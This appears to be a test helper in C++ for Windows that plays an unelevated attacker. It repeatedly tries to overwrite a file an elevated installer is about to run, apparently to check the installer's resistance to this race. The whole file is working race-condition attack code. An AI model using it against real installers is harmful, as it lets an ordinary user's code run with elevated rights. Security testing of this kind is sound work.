// attacker TARGET PROGRAM LOG
// Plays an unelevated program of the same user that wants the elevated
// installer to run PROGRAM: it waits for TARGET to appear and to be at least
// as long as PROGRAM, then tries, every few milliseconds, to open TARGET for
// writing (sharing everything) and write PROGRAM's bytes over its start.
// Appends "written" to LOG when that worked. Gives up after 60 s.

#include <windows.h>

#include <string>
#include <vector>

namespace {

std::vector<char> ReadWhole(const wchar_t* path) {
    std::vector<char> bytes;
    HANDLE file =
        CreateFileW(path, GENERIC_READ, FILE_SHARE_READ, nullptr, OPEN_EXISTING, 0, nullptr);
    if (file == INVALID_HANDLE_VALUE)
        return bytes;
    LARGE_INTEGER size{};
    GetFileSizeEx(file, &size);
    bytes.resize(static_cast<size_t>(size.QuadPart));
    DWORD read = 0;
    ReadFile(file, bytes.data(), static_cast<DWORD>(bytes.size()), &read, nullptr);
    bytes.resize(read);
    CloseHandle(file);
    return bytes;
}

bool WriteOver(const wchar_t* target, const std::vector<char>& program) {
    HANDLE file =
        CreateFileW(target, GENERIC_WRITE, FILE_SHARE_READ | FILE_SHARE_WRITE | FILE_SHARE_DELETE,
                    nullptr, OPEN_EXISTING, 0, nullptr);
    if (file == INVALID_HANDLE_VALUE)
        return false;
    LARGE_INTEGER size{};
    DWORD written = 0;
    const bool done =
        GetFileSizeEx(file, &size) && size.QuadPart >= static_cast<LONGLONG>(program.size()) &&
        WriteFile(file, program.data(), static_cast<DWORD>(program.size()), &written, nullptr) &&
        written == program.size();
    CloseHandle(file);
    return done;
}

} // namespace

int wmain(int argc, wchar_t** argv) {
    if (argc != 4)
        return 2;
    const std::vector<char> program = ReadWhole(argv[2]);
    if (program.empty())
        return 2;
    const ULONGLONG end = GetTickCount64() + 60000;
    while (GetTickCount64() < end) {
        if (WriteOver(argv[1], program)) {
            HANDLE log = CreateFileW(argv[3], FILE_APPEND_DATA, FILE_SHARE_READ, nullptr,
                                     OPEN_ALWAYS, 0, nullptr);
            DWORD written = 0;
            WriteFile(log, "written\n", 8, &written, nullptr);
            CloseHandle(log);
            return 0;
        }
        Sleep(2);
    }
    return 1;
}
